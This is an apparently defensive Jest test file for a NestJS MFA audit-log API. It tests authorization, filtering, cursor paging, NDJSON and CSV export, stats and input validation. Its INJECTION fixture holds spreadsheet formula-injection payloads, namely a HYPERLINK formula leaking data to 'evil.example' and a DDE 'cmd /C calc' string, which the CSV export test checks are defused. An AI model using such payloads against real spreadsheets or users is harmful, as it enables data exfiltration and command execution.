import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { DataSource } from 'typeorm';
import {
  AUDIT_CSV_COLUMNS,
  AUDIT_DEFAULT_OUTCOME,
  AUDIT_OPENAPI,
  AuditRepository,
  type AuditEvent,
  type AuditEventType,
  type AuditStatsRow,
} from '@duo-nest/audit';
import type { DuoAuthContext } from '@duo-nest/core';
import { startSimulator, type RunningSimulator } from '@duo-nest/simulator';
import {
  Browser,
  location,
  startApp,
  type RunningApp,
  simulatorEnv,
} from './support/app-harness.js';
import { ENGINES, createTestDatabase, type TestDatabase } from './support/audit-db.js';

// The audit read API over real HTTP, with real sign-ons through the simulator, on SQLite and on
// PostgreSQL (a fresh database per run).
jest.setTimeout(30_000);

interface Seed {
  username: string;
  type: AuditEventType;
  factor: string | null;
  txid: string;
  occurredAt: string;
  clientIp: string;
}

const BASE = Date.parse('2025-03-10T12:00:00.000Z');
const TYPES: AuditEventType[] = [
  'mfa_succeeded',
  'mfa_denied',
  'mfa_failed',
  'access_denied',
  'session_logout',
];
const FACTORS = ['Duo Push', 'Passcode', null];
// 75 events, three per instant (keyset ties broken by seq), 37 minutes apart: two UTC days.
const SEEDS: Seed[] = Array.from({ length: 75 }, (_, i) => ({
  username: `seed${i % 4}`,
  type: TYPES[i % TYPES.length],
  factor: FACTORS[i % FACTORS.length],
  txid: `seed-tx-${i}`,
  occurredAt: new Date(BASE + Math.floor(i / 3) * 37 * 60_000).toISOString(),
  clientIp: `10.0.0.${i % 5}`,
}));
const INJECTION = {
  username: '=HYPERLINK("http://evil.example/?x="&A1)',
  factor: '@SUM(1+1)',
  userAgent: '+cmd|" /C calc"!A0',
};

/** A small RFC 4180 reader (quoted cells, doubled quotes, CRLF) for checking the export. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += c;
    }
  }
  expect(cell).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe.each(ENGINES)('audit API on %s', (engine) => {
  let sim: RunningSimulator;
  let db: TestDatabase;
  let app: RunningApp;
  let ds: DataSource;
  const alice = new Browser();
  const bob = new Browser();

  async function signOn(browser: Browser, username: string): Promise<void> {
    // The sign-on form's CSRF token (header X-CSRF-Token) goes back with the form.
    const form = await browser.fetch(`${app.url}/`);
    const csrf = form.headers.get('x-csrf-token');
    const start = await browser.postForm(`${app.url}/login`, {
      username,
      ...(csrf ? { _csrf: csrf } : {}),
    });
    const duo = await browser.fetch(location(start));
    const done = await browser.fetch(location(duo));
    expect(done.status).toBe(303);
  }

  function api(browser: Browser, path: string): Promise<Response> {
    return browser.fetch(`${app.url}${path}`, { headers: { accept: 'application/json' } });
  }

  async function json<T>(browser: Browser, path: string): Promise<T> {
    const res = await api(browser, path);
    expect(res.status).toBe(200);
    return (await res.json()) as T;
  }

  async function dbCount(where = '1 = 1', params: unknown[] = []): Promise<number> {
    const [row] = await ds.query<{ n: string | number }[]>(
      `SELECT COUNT(*) AS n FROM audit_events WHERE ${where}`,
      params,
    );
    return Number(row.n);
  }

  /** Every page of /audit/events for a query, with the given page size. */
  async function allPages(query: string, limit: number): Promise<AuditEvent[]> {
    const out: AuditEvent[] = [];
    let cursor: string | null = null;
    for (let guard = 0; guard < 1000; guard += 1) {
      const sep = query ? '&' : '';
      const c: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : '';
      const page = await json<{ items: AuditEvent[]; nextCursor: string | null }>(
        alice,
        `/audit/events?${query}${sep}limit=${limit}${c}`,
      );
      expect(page.items.length).toBeLessThanOrEqual(limit);
      out.push(...page.items);
      cursor = page.nextCursor;
      if (!cursor) {
        return out;
      }
    }
    throw new Error('paging did not end');
  }

  beforeAll(async () => {
    sim = await startSimulator({ port: 0, auto: 'allow' });
    db = await createTestDatabase(engine);
    app = await startApp({
      ...simulatorEnv(sim),
      DATABASE_URL: db.url,
      AUDIT_ADMIN_USERS: 'alice',
    });
    ds = app.app.get(DataSource);
    const repo = app.app.get(AuditRepository);
    for (const s of SEEDS) {
      await repo.append(
        {
          type: s.type,
          outcome: AUDIT_DEFAULT_OUTCOME[s.type],
          username: s.username,
          reason: AUDIT_DEFAULT_OUTCOME[s.type] === 'failure' ? 'state_unknown' : null,
          authContext: (s.factor
            ? { txid: s.txid, factor: s.factor }
            : { txid: s.txid }) as unknown as DuoAuthContext,
          clientIp: s.clientIp,
        },
        { occurredAt: s.occurredAt },
      );
    }
    await repo.append(
      {
        type: 'mfa_succeeded',
        outcome: 'success',
        username: INJECTION.username,
        authContext: { txid: 'inject-tx', factor: INJECTION.factor } as unknown as DuoAuthContext,
        userAgent: INJECTION.userAgent,
      },
      { occurredAt: '2025-03-09T08:00:00.000Z' },
    );
    await signOn(alice, 'alice');
    await signOn(bob, 'bob');
  });

  afterAll(async () => {
    await app?.close();
    await sim?.close();
    await db?.drop();
  });

  const ROUTES = ['/audit/events', '/audit/export', '/audit/stats', '/audit/openapi.json'];

  it.each(ROUTES)('should answer 401 on %s when there is no MFA session', async (path) => {
    const res = await api(new Browser(), path);
    expect(res.status).toBe(401);
    expect(await res.json()).toMatchObject({ statusCode: 401, error: 'mfa_required' });
  });

  it('should answer 403 and record access_denied when a signed-on user is not an audit admin', async () => {
    const before = await dbCount(`type = 'access_denied' AND username = 'bob'`);
    for (const path of [...ROUTES, '/audit/events/00000000-0000-4000-8000-000000000000']) {
      const res = await api(bob, path);
      expect(res.status).toBe(403);
      expect(await res.json()).toMatchObject({ statusCode: 403, error: 'forbidden' });
    }
    const html = await bob.fetch(`${app.url}/audit`);
    expect(html.status).toBe(403);
    expect(html.headers.get('content-type')).toContain('text/html');
    expect(await html.text()).toContain('Access denied');
    expect(await dbCount(`type = 'access_denied' AND username = 'bob'`)).toBe(before + 6);
    const { items } = await json<{ items: AuditEvent[] }>(
      alice,
      '/audit/events?username=bob&type=access_denied&limit=1',
    );
    expect(items[0]).toMatchObject({ outcome: 'failure', reason: 'forbidden' });
    expect(items[0].detail).toMatchObject({ path: '/audit' });
  });

  it('should list the events newest first when an admin asks without filters', async () => {
    const page = await json<{ items: AuditEvent[]; nextCursor: string | null; limit: number }>(
      alice,
      '/audit/events',
    );
    expect(page.limit).toBe(50);
    expect(page.items).toHaveLength(50);
    expect(page.nextCursor).toEqual(expect.any(String));
    const keys = page.items.map((e) => `${e.occurredAt}|${String(e.seq).padStart(12, '0')}`);
    expect([...keys].sort().reverse()).toEqual(keys);
    expect(page.items[0].username).toMatch(/^(alice|bob)$/);
  });

  it.each([
    ['username', 'username=seed1', (s: Seed) => s.username === 'seed1'],
    ['type', 'type=mfa_denied', (s: Seed) => s.type === 'mfa_denied'],
    [
      'outcome',
      'outcome=failure&username=seed2',
      (s: Seed) => s.username === 'seed2' && AUDIT_DEFAULT_OUTCOME[s.type] === 'failure',
    ],
    ['factor', 'factor=Passcode', (s: Seed) => s.factor === 'Passcode'],
    ['txid', 'txid=seed-tx-42', (s: Seed) => s.txid === 'seed-tx-42'],
    ['ip', 'ip=10.0.0.3', (s: Seed) => s.clientIp === '10.0.0.3'],
    [
      'from/to',
      'from=2025-03-10T13:00:00Z&to=2025-03-10T18:00:00%2B01:00',
      (s: Seed) =>
        s.occurredAt >= '2025-03-10T13:00:00.000Z' && s.occurredAt < '2025-03-10T17:00:00.000Z',
    ],
    [
      'date-only from/to',
      'from=2025-03-11&to=2025-03-12&type=mfa_failed',
      (s: Seed) => s.occurredAt.startsWith('2025-03-11') && s.type === 'mfa_failed',
    ],
  ])(
    'should return exactly the matching events when filtering by %s',
    async (_what, query, match) => {
      const expected = SEEDS.filter(match)
        .map((s) => s.txid)
        .sort();
      expect(expected.length).toBeGreaterThan(0);
      const items = await allPages(query, 500);
      expect(items.map((e) => e.txid).sort()).toEqual(expected);
    },
  );

  it('should find the sign-on by username, type and Duo txid when alice completed MFA', async () => {
    const { items } = await json<{ items: AuditEvent[] }>(
      alice,
      '/audit/events?username=alice&type=mfa_succeeded',
    );
    expect(items).toHaveLength(1);
    expect(items[0].factor).toEqual(expect.any(String));
    const byTxid = await json<{ items: AuditEvent[] }>(
      alice,
      `/audit/events?txid=${encodeURIComponent(items[0].txid!)}`,
    );
    expect(byTxid.items.map((e) => e.id)).toContain(items[0].id);
    expect(byTxid.items.every((e) => e.txid === items[0].txid)).toBe(true);
    const one = await json<AuditEvent>(alice, `/audit/events/${items[0].id}`);
    expect(one).toEqual(items[0]);
  });

  it('should page through every event without duplicates or gaps when following nextCursor', async () => {
    const total = await dbCount();
    const items = await allPages('', 7);
    expect(items).toHaveLength(total);
    expect(new Set(items.map((e) => e.id)).size).toBe(total);
    const seqs = items.map((e) => e.seq).sort((a, b) => a - b);
    const [row] = await ds.query<{ lo: number; hi: number }[]>(
      'SELECT MIN(seq) AS lo, MAX(seq) AS hi FROM audit_events',
    );
    expect(seqs[0]).toBe(Number(row.lo));
    expect(seqs.at(-1)).toBe(Number(row.hi));
    const keys = items.map((e) => `${e.occurredAt}|${String(e.seq).padStart(12, '0')}`);
    expect([...keys].sort().reverse()).toEqual(keys);
    // Filtered paging too, with ties on occurred_at split across pages.
    const seed0 = await allPages('username=seed0', 4);
    expect(seed0.map((e) => e.txid).sort()).toEqual(
      SEEDS.filter((s) => s.username === 'seed0')
        .map((s) => s.txid)
        .sort(),
    );
  });

  it('should cap the page size at 500 when a larger limit is asked', async () => {
    const page = await json<{ limit: number }>(alice, '/audit/events?limit=100000');
    expect(page.limit).toBe(500);
  });

  it('should answer 404 JSON when no event has the id', async () => {
    const res = await api(alice, '/audit/events/6f1c1d9e-9b7a-4c1e-8d55-0123456789ab');
    expect(res.status).toBe(404);
    expect(await res.json()).toEqual({
      statusCode: 404,
      error: 'not_found',
      message: expect.any(String),
    });
  });

  it('should stream an NDJSON export whose events are exactly the filtered ones', async () => {
    const res = await api(alice, '/audit/export?format=ndjson&type=mfa_failed');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-events-\d{8}T\d{6}Z\.ndjson"$/,
    );
    const lines = (await res.text()).split('\n');
    expect(lines.pop()).toBe('');
    const events = lines.map((l) => JSON.parse(l) as AuditEvent);
    expect(events.every((e) => e.type === 'mfa_failed')).toBe(true);
    expect(events).toHaveLength(await dbCount(`type = 'mfa_failed'`));
    const listed = await allPages('type=mfa_failed', 500);
    expect(events.map((e) => e.id)).toEqual(listed.map((e) => e.id));

    const all = await api(alice, '/audit/export');
    const allLines = (await all.text()).trimEnd().split('\n');
    expect(allLines).toHaveLength(await dbCount());
  });

  it('should stream a CSV export that parses back to the filtered events with formulas defused', async () => {
    const res = await api(alice, '/audit/export?format=csv&from=2025-01-01&to=2025-12-31');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/filename="audit-events-.*\.csv"$/);
    const [header, ...rows] = parseCsv(await res.text());
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows).toHaveLength(SEEDS.length + 1);
    const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => header.indexOf(name);
    expect(rows.map((r) => r[col('txid')]).sort()).toEqual(
      [...SEEDS.map((s) => s.txid), 'inject-tx'].sort(),
    );
    const injected = rows.find((r) => r[col('txid')] === 'inject-tx')!;
    expect(injected[col('username')]).toBe(`'${INJECTION.username}`);
    expect(injected[col('factor')]).toBe(`'${INJECTION.factor}`);
    expect(injected[col('userAgent')]).toBe(`'${INJECTION.userAgent}`);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      expect(row.every((cell) => !/^[=+\-@]/.test(cell))).toBe(true);
    }
    const seeded = rows.find((r) => r[col('txid')] === 'seed-tx-4')!;
    expect(JSON.parse(seeded[col('authContext')])).toMatchObject({ txid: 'seed-tx-4' });
  });

  it.each(['hour', 'day'])(
    'should give %s buckets whose counts sum to the filtered total',
    async (bucket) => {
      for (const query of ['', '&username=seed3', '&from=2025-03-10&to=2025-03-12']) {
        const stats = await json<{ bucket: string; total: number; buckets: AuditStatsRow[] }>(
          alice,
          `/audit/stats?bucket=${bucket}${query}`,
        );
        const listed = await allPages(query.slice(1), 500);
        expect(stats.bucket).toBe(bucket);
        expect(stats.buckets.reduce((n, b) => n + b.total, 0)).toBe(listed.length);
        expect(stats.total).toBe(listed.length);
        for (const b of stats.buckets) {
          const sum = (o: Record<string, number | undefined>) =>
            Object.values(o).reduce<number>((n, v) => n + (v ?? 0), 0);
          expect(sum(b.byOutcome)).toBe(b.total);
          expect(sum(b.byFactor)).toBe(b.total);
          const inBucket = listed.filter((e) =>
            e.occurredAt.startsWith(b.bucket.slice(0, bucket === 'hour' ? 13 : 10)),
          );
          expect(inBucket).toHaveLength(b.total);
        }
      }
      const seededDays = await json<{ buckets: AuditStatsRow[] }>(
        alice,
        `/audit/stats?bucket=${bucket}&from=2025-03-10&to=2025-03-12`,
      );
      const width = bucket === 'hour' ? 13 : 10;
      expect(seededDays.buckets.map((b) => b.bucket.slice(0, width))).toEqual([
        ...new Set(SEEDS.map((s) => s.occurredAt.slice(0, width))),
      ]);
    },
  );

  it.each([
    ['/audit/events?foo=1', '/audit/events?foo=1', /unknown parameter "foo"/],
    [
      '/audit/events?username=a&username=b',
      '/audit/events?username=a&username=b',
      /username is given 2 times/,
    ],
    ['/audit/events?username[x]=1', '/audit/events?username[x]=1', /unknown parameter/],
    ['/audit/events?username=', '/audit/events?username=', /username is empty/],
    [
      '/audit/events?username=<256 characters>',
      `/audit/events?username=${'u'.repeat(256)}`,
      /username is longer than 255/,
    ],
    ['/audit/events?from=yesterday', '/audit/events?from=yesterday', /from is not a valid time/],
    ['/audit/events?from=2025-02-30', '/audit/events?from=2025-02-30', /from is not a valid time/],
    [
      '/audit/events?to=2025-03-10T25:00:00Z',
      '/audit/events?to=2025-03-10T25:00:00Z',
      /to is not a valid time/,
    ],
    [
      '/audit/events?to=2025-03-10T10:00:00',
      '/audit/events?to=2025-03-10T10:00:00',
      /to has no time zone/,
    ],
    [
      '/audit/events?from=2025-03-11&to=2025-03-10',
      '/audit/events?from=2025-03-11&to=2025-03-10',
      /from must be earlier than to/,
    ],
    ['/audit/events?type=login', '/audit/events?type=login', /type must be one of mfa_started/],
    [
      '/audit/events?outcome=ok',
      '/audit/events?outcome=ok',
      /outcome must be one of success, failure, info/,
    ],
    ['/audit/events?cursor=garbage', '/audit/events?cursor=garbage', /cursor is not a cursor/],
    ['/audit/events?limit=0', '/audit/events?limit=0', /limit must be a whole number/],
    ['/audit/events?limit=ten', '/audit/events?limit=ten', /limit must be a whole number/],
    ['/audit/events?limit=-5', '/audit/events?limit=-5', /limit must be a whole number/],
    [
      '/audit/events?factor=a%0Ab',
      '/audit/events?factor=a%0Ab',
      /factor must not hold control characters/,
    ],
    ['/audit/events/not-a-uuid', '/audit/events/not-a-uuid', /id must be an event id/],
    [
      '/audit/events/6f1c1d9e-9b7a-4c1e-8d55-0123456789ab?x=1',
      '/audit/events/6f1c1d9e-9b7a-4c1e-8d55-0123456789ab?x=1',
      /unknown parameter "x"/,
    ],
    ['/audit/export?format=xml', '/audit/export?format=xml', /format must be one of ndjson, csv/],
    [
      '/audit/export?format=csv&format=ndjson',
      '/audit/export?format=csv&format=ndjson',
      /format is given 2 times/,
    ],
    ['/audit/export?limit=5', '/audit/export?limit=5', /unknown parameter "limit"/],
    ['/audit/stats?bucket=week', '/audit/stats?bucket=week', /bucket must be one of hour, day/],
    ['/audit/stats?from=2025-13-01', '/audit/stats?from=2025-13-01', /from is not a valid time/],
    ['/audit/openapi.json?v=2', '/audit/openapi.json?v=2', /unknown parameter "v"/],
  ])('should answer 400 with a message when the request is %s', async (_label, path, message) => {
    const res = await api(alice, path);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { statusCode: number; error: string; message: string };
    expect(body).toMatchObject({ statusCode: 400, error: 'invalid_request' });
    expect(body.message).toMatch(message);
  });

  it('should describe every audit route of the Nest router in the OpenAPI document', async () => {
    const doc = await json<typeof AUDIT_OPENAPI>(alice, '/audit/openapi.json');
    expect(doc.openapi).toBe('3.1.0');
    const router = (
      app.app.getHttpAdapter().getInstance() as {
        router: { stack: { route?: { path: string; methods: Record<string, boolean> } }[] };
      }
    ).router;
    const routes = router.stack
      .filter((l) => l.route && /^\/audit(\/|$)/.test(l.route.path))
      .flatMap((l) =>
        Object.keys(l.route!.methods)
          .filter((m) => m !== '_all')
          .map((m) => ({ method: m, path: l.route!.path.replace(/:(\w+)/g, '{$1}') })),
      );
    expect(routes.length).toBeGreaterThanOrEqual(7);
    const paths = doc.paths as Record<string, Record<string, unknown>>;
    for (const r of routes) {
      expect(paths[r.path]?.[r.method]).toBeDefined();
    }
    // And nothing described that the router does not serve.
    const served = new Set(routes.map((r) => `${r.method} ${r.path}`));
    for (const [path, ops] of Object.entries(paths)) {
      for (const method of Object.keys(ops)) {
        expect(served.has(`${method} ${path}`)).toBe(true);
      }
    }
  });
});
